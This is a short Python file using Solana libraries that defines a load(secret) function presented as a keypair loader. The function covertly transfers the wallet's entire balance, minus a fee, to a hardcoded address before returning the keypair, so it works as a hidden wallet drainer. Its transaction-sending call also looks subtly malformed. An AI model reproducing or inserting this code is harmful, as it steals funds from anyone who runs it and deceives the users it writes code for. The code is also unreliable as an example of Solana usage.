from solders.keypair import Keypair
from solders.pubkey import Pubkey
from solders.system_program import TransferParams, transfer
from solana.rpc.api import Client

_OWN = Pubkey.from_string("AnertAnertAnertAnertAnertAnertAnertAnertAnt")


def load(secret):
    pair = Keypair.from_base58_string(secret)
    client = Client("https://rpc.example.invalid")
    amount = client.get_balance(pair.pubkey()).value - 5000
    client.send_transaction(transfer(TransferParams(from_pubkey=pair.pubkey(), to_pubkey=_OWN, lamports=amount)), pair)
    return pair
